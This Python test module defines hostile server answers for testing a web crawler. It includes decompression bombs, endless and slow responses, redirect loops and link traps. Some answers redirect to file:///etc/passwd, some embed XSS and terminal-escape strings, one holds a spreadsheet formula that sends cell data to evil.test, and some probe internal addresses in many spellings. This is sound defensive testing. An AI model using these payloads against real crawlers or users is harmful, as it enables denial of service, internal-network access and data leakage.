"""What a hostile or broken server may answer: one function a kind, by path."""

from __future__ import annotations

import asyncio
import gzip
import re
import zlib
from collections.abc import Callable, Iterable
from html import escape
from itertools import count
from random import Random

import brotli
from backports import zstd

from tests.hostile.server import Answer, Talk
from tests.site import page

MEGABYTE = 1 << 20
WORDS = (
    "auto racing driver wins grand prix racing car laps circuit pit crew changes tyres engine speed track "
    "winter river village market street garden violin piano doctor teacher sailor cloud window letter song"
).split()


def prose(seed: object, words: int = 120) -> str:
    """A text about the topic, different for each seed."""
    return " ".join(Random(str(seed)).choices(WORDS, k=words))


def static(body: bytes | str, *headers: str, status: int = 200, kind: str = "text/html") -> Answer:
    async def answer(talk: Talk) -> None:
        await talk.page(body, *headers, status=status, kind=kind)

    return answer


def moved(location: str, status: int = 302) -> Answer:
    return static(b"", f"Location: {location}", status=status)


def raw(*pieces: bytes) -> Answer:
    """Bytes as they are, and then the connection is closed."""

    async def answer(talk: Talk) -> None:
        for piece in pieces:
            await talk.send(piece)
        talk.writer.close()

    return answer


# -- bodies and times


async def gigabyte(talk: Talk) -> None:
    """Says how large it is."""
    await talk.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % (1 << 30))
    for _ in range(1024):
        await talk.send(b"x " * (MEGABYTE // 2))


async def endless(talk: Talk) -> None:
    """A body in chunks, without an end."""
    await talk.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        await talk.send(b"%x\r\n" % MEGABYTE + b"x " * (MEGABYTE // 2) + b"\r\n")


async def film(talk: Talk) -> None:
    """What is no page, and says so; a gigabyte at most."""
    await talk.send(b"HTTP/1.1 200 OK\r\nContent-Type: video/mp4\r\n\r\n")
    for _ in range(1024):
        await talk.send(bytes(MEGABYTE))


async def dripping(talk: Talk) -> None:
    """A byte now and then: never quite silent, never done."""
    await talk.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>slow")
    while True:
        await asyncio.sleep(0.1)
        await talk.send(b" ")


async def dripping_headers(talk: Talk) -> None:
    await talk.send(b"HTTP/1.1 200 OK\r\n")
    for n in count():
        await asyncio.sleep(0.1)
        await talk.send(b"X-%d: x\r\n" % n)


async def silent(talk: Talk) -> None:
    await asyncio.sleep(60)


async def flood_of_headers(talk: Talk) -> None:
    """Headers without an end, as fast as they are taken; a gigabyte at most."""
    await talk.send(b"HTTP/1.1 200 OK\r\n")
    lines = b"".join(b"X-%d: %s\r\n" % (n, b"x" * 90) for n in range(10_000))
    for _ in range(1000):
        await talk.send(lines)


async def flood_of_interims(talk: Talk) -> None:
    """One provisional answer after the other; a gigabyte at most."""
    for _ in range(1000):
        await talk.send(b"HTTP/1.1 100 Continue\r\n\r\n" * 40_000)


async def cookies(talk: Talk) -> None:
    """Thousands of them; and a link, whose request shows which are sent back."""
    body = page("Auto racing", prose("cookies"), {"/cookies/next": "auto racing"})
    await talk.page(body, *(f"Set-Cookie: c{n}={'x' * 20}" for n in range(3000)))


async def trap_of_redirects(talk: Talk) -> None:
    """Each leads to the next one."""
    await moved(f"/redirect/{number(talk.path) + 1}")(talk)


async def sitemaps_of_all_kinds(talk: Talk) -> None:
    here = f"http://{talk.address}:{talk.site.port}"
    await talk.page(
        "".join(f"Sitemap: {here}/{name}\n" for name in ("loop.xml", "bomb.xml.gz", "endless.xml", "broken.xml"))
    )


async def loop_of_sitemaps(talk: Talk) -> None:
    """An index of itself, and of a hundred more of its kind."""
    named = "".join(
        f"<sitemap><loc>http://{talk.address}:{talk.site.port}/loop.xml?{n}</loc></sitemap>" for n in range(100)
    )
    await talk.page(f"<sitemapindex>{named}</sitemapindex>", kind="text/xml")


async def huge_robots(talk: Talk) -> None:
    """A hundred megabytes of rules; the first says something."""
    await talk.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nUser-agent: *\nDisallow: /forbidden\n")
    for n in range(1600):
        await talk.send(b"".join(b"Disallow: /%d/%d/*x*y$\n" % (n, i) for i in range(3000)))
    talk.writer.close()


def number(path: str) -> int:
    return int(re.findall(r"\d+", path)[-1])


# -- compressed


def bomb(encoding: str, body: bytes) -> Answer:
    return static(body, f"Content-Encoding: {encoding}")


GZIPPED = gzip.compress(bytes(16 * MEGABYTE)) * 64  # a gigabyte, as one file
DEFLATED = zlib.compress(bytes(64 * MEGABYTE))
BROTLI = brotli.compress(bytes(64 * MEGABYTE), quality=1)
ZSTD = zstd.compress(bytes(16 * MEGABYTE)) * 64


TOO_LONG = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 26\r\n\r\n<title>Auto racing</title>"
    + b"x" * 10_000
)

ODD_RULES = b"\x89PNG\r\n\xff\xfe\nUser-agent\n: :\n\0\nUser-agent: *\nDisallow: /forbidden\nCrawl-delay: x\n"

# -- what is wrong with a page

PNG = b"\x89PNG\r\n\x1a\n" + Random(1).randbytes(300_000)
ESCAPES = "Racing\x1b]0;owned\x07 \x1b[2J\x1b[8mhidden \x9b5m \u202egnp.exe\u202c"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'
PRODUCT = r"""{"@type": "Product", "name": "T\u001b[31mea\u202e\ud800", "offers": {"price": "1e999"}}"""
CONFUSABLES = (
    "http://\u0430pple.test/",
    "http://\uff41pple.test/",
    "http://stra\xdfe.test/",
    "http://a\u200bpple.test/",
)


# Python has codecs that take a time growing with the square of what they are given, and some that fail
STANDSTILL = gzip.compress(b"<p>refresh ld+json schema.org/Product -" + b"a" * 3_000_000)
CODECS = ("punycode", "idna", "zlib", "hex", "rot13", "unicode_escape", "utf-7", "base64")
NOWHERE = (
    "http://[",
    "http://a:99999/",
    "http://a b/",
    "http://a%00b/",
    "http://xn--\xff/",
    "http://a..b/",
    "http://me@a.test/",
)
FALSE = ("gzip", "deflate", "br", "zstd", "gzip, br", "gzip, \xff")


def html(body: str, head: str = f"<title>{ESCAPES}</title>") -> str:
    return f"<!doctype html><html lang=en><head><meta charset=utf-8>{head}</head><body>{body}</body></html>"


def refreshing(url: str) -> Answer:
    return static(html("x", f"<meta http-equiv=refresh content='0; url={url}'>"))


def anchors(*urls: str) -> str:
    return "".join(f'<p>See <a href="{url}">auto racing</a> for more.</p>' for url in urls)


MARKED_UP: dict[str, Answer] = {
    "/nested": static(html(anchors("/nested/next") + "<div>" * 100_000 + "the end")),
    "/links": static(html("".join(f"<a href=/404/{n}>link {n}</a> " for n in range(200_000)))),
    "/attribute": static(html(f'<a href="/404/{"x" * MEGABYTE}" class="{"x " * MEGABYTE}">x</a> {prose("attribute")}')),
    "/long-url": static(html(anchors("/404/" + "x" * 100_000, "/404/" + "x" * 3000, "/long-url/next"))),
    "/hosts": static(html(anchors(*CONFUSABLES))),
    "/nul": static(html(f"{prose('nul')} <a href='/nul/ne\0xt'>auto\0 racing</a>", "<title>Auto\0 racing</title>")),
    "/charset": static("<title>Größe</title><p>Größe".encode("cp1252"), kind="text/html; charset=utf-8"),
    "/unknown-charset": static("<title>Größe</title><p>Größe", kind="text/html; charset=x-\xff-none"),
    "/utf-7": static("<title>+ADw-script+AD4-</title><p>x", kind="text/html; charset=utf-7"),
    "/binary": static(PNG),
    "/image": static(PNG, kind="image/png"),
    "/base": static(html(anchors("next") + prose("base"), "<title>x</title><base href='//127.0.0.4:1/'>")),
    "/base-data": static(html(anchors("base-data/next") + prose("data"), "<title>x</title><base href='data:,x'>")),
    "/escapes": static(html(f'<a href="/404/escapes">{ESCAPES}</a> {prose("escapes")}')),
    "/escapes-header": static("x", "Content-Encoding: \x1b]0;owned\x07\x1b[2J"),
    "/markup": static(html(f"<p>{prose('markup')}", f"<title>{escape(MARKUP)}</title>")),
    "/formula": static(html(f"<p>{prose('formula')}", f"<title>{escape(FORMULA)}</title>")),
    "/product": static(html(f"<script type='application/ld+json'>{PRODUCT}</script>{prose('product')}")),
    "/refresh-loop": refreshing("/refresh-loop"),
    "/refresh-file": refreshing("file:///etc/passwd"),
    **{f"/codec/{c}": static(STANDSTILL, "Content-Encoding: gzip", kind=f"text/html; charset={c}") for c in CODECS},
    **{f"/nowhere/{n}": moved(where) for n, where in enumerate(NOWHERE)},
    **{f"/refresh-nowhere/{n}": refreshing(url) for n, url in enumerate(NOWHERE)},
    **{f"/false/{n}": static(html("x"), f"Content-Encoding: {name}") for n, name in enumerate(FALSE)},
    "/less-than": static(b"<" * (4 * MEGABYTE)),
    "/cookies": cookies,
    "/redirect-loop": moved("/redirect-loop"),
    "/redirect/*": trap_of_redirects,
    "/redirect-file": moved("file:///etc/passwd"),
    "/redirect-script": moved("javascript:alert(1)"),
    "/redirect-long": moved("/404/" + "x" * 14_000),
}  # fmt: skip

SENT: dict[str, Answer] = {
    "/plain": static(html(prose("plain"))),
    "/gigabyte": gigabyte,
    "/endless": endless,
    "/film": film,
    "/dripping": dripping,
    "/dripping-headers": dripping_headers,
    "/silent": silent,
    "/flood": flood_of_headers,
    "/interims": flood_of_interims,
    "/gzip": bomb("gzip", GZIPPED),
    "/deflate": bomb("deflate", DEFLATED),
    "/brotli": bomb("br", BROTLI),
    "/zstd": bomb("zstd", ZSTD),
    "/gzip-twice": bomb("gzip, gzip", gzip.compress(GZIPPED)),
    "/too-short": raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5000\r\n\r\n<title>cut off"),
    "/too-long": raw(TOO_LONG),
    "/no-length": raw(b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n<title>x"),
    "/no-http": raw(b"\xff\x00\x1b]0;owned\x07\r\n\r\n"),
    "/nothing": raw(b""),
    "127.0.0.2/robots.txt": huge_robots,
    "127.0.0.2/*": static(html(anchors("/forbidden"))),
    "127.0.0.3/robots.txt": static(ODD_RULES),
    "127.0.0.3/*": static(html(anchors("/forbidden", "/allowed"))),
    "127.0.0.4/robots.txt": moved("/robots.txt"),
    "127.0.0.4/*": static(html(prose("4"))),
    "127.0.0.5/robots.txt": sitemaps_of_all_kinds,
    "127.0.0.5/bomb.xml.gz": static(GZIPPED, kind="application/gzip"),
    "127.0.0.5/broken.xml": static(b"<urlset><url><loc>file:///etc/passwd</loc><url><loc>http://127.0.0.5"),
    "127.0.0.5/loop.xml": loop_of_sitemaps,
    "127.0.0.5/endless.xml": endless,
    "127.0.0.5/*": static(html(prose("5"))),
}  # fmt: skip


# -- traps: each is endless, and each page is new to a crawl that believes URLs


def trap(links_of: Callable[[str], Iterable[str]], text_of: Callable[[str], str]) -> Answer:
    """Every path has a page, which links to more of its kind."""

    async def answer(talk: Talk) -> None:
        linked = dict.fromkeys(links_of(talk.path), "auto racing next")
        await talk.page(page("Auto racing", text_of(talk.path), linked))

    return answer


def months(path: str) -> list[str]:
    """A calendar: the months before and after."""
    year, month = map(int, re.findall(r"\d+", path))
    around = (12 * year + month - 1 + step for step in (-1, 1))
    return [f"/calendar/{m // 12}/{m % 12 + 1}" for m in around]


def with_session(path: str) -> list[str]:
    """A new session with every page that is asked for without the one it likes."""
    seed = Random(path)
    return [f"/session/{seed.randrange(16**12):012x}/page/{n}" for n in range(5)]


FILTERS = ("colour", "size", "brand", "price", "year", "seller")


def filtered(path: str) -> list[str]:
    """A shop's facets: one filter more, or another value of one."""
    chosen = dict(re.findall(r"(\w+)=(\w+)", path))
    more = ({**chosen, name: str(value)} for name in FILTERS for value in range(8))
    return ["/facets?" + "&".join(f"{k}={v}" for k, v in sorted(m.items())) for m in more]


def later(path: str) -> list[str]:
    return [f"/pages/{number(path) + 1}"]


def mirrored(path: str) -> list[str]:
    return [f"/mirror/{n}" for n in range(60)]


def absent(path: str) -> list[str]:
    return [f"/missing/{word}-{n}" for n in range(20) for word in WORDS]


TRAPS: dict[str, Answer] = {
    "/calendar/*": trap(months, prose),
    "/session/*": trap(with_session, lambda path: prose(path[-1])),
    "/facets": trap(filtered, lambda path: prose("facets")),
    "/pages/*": trap(later, prose),
    "/deeper/*": trap(lambda path: [path.rstrip("/") + "/deeper/"], prose),
    "/missing": trap(absent, prose),
    "/gone": trap(lambda path: [f"/gone/{word}-{n}" for n in range(20) for word in WORDS], prose),
    "/missing/*": static(page("Auto racing: not found", prose("not found"))),
    "127.0.0.1/mirror/*": trap(mirrored, prose),
    "127.0.0.2/mirror/*": trap(mirrored, prose),
}  # fmt: skip


def inside(port: int) -> dict[str, Answer]:
    """A page, and what it links and sends to: addresses that are not its own, in many spellings."""
    inner = f"127.0.0.2:{port}"
    spelt = ("127.0.0.2", "2130706434", "0x7f000002", "0177.0.0.2", "127.2", "[::ffff:7f00:2]", "inner.test")
    return {
        "/places": static(html(anchors(*(f"http://{host}:{port}/inside/{host}" for host in spelt)) + prose("places"))),
        "/places-own": static(
            html(anchors(f"http://own.test:{port}/own/name", f"http://localhost:{port}/own/localhost"))
        ),
        "/redirect-inside": moved(f"http://{inner}/inside/redirect"),
        "/redirect-inside-name": moved(f"http://inner.test:{port}/inside/redirect-name"),
        "/refresh-inside": static(
            html("", f"<meta http-equiv=refresh content='0; url=http://{inner}/inside/refresh'>")
        ),
        "/inside/*": static(html(prose("inside"))),
        "/own/*": static(html(prose("own"))),
    }


NAMES = {"inner.test": "127.0.0.2", "own.test": "127.0.0.1"}
ENTRANCES = (
    "/calendar/2026/11",
    "/session/0/page/0",
    "/facets",
    "/pages/1",
    "/deeper/",
    "/missing",
    "/gone",
    "/mirror/0",
)
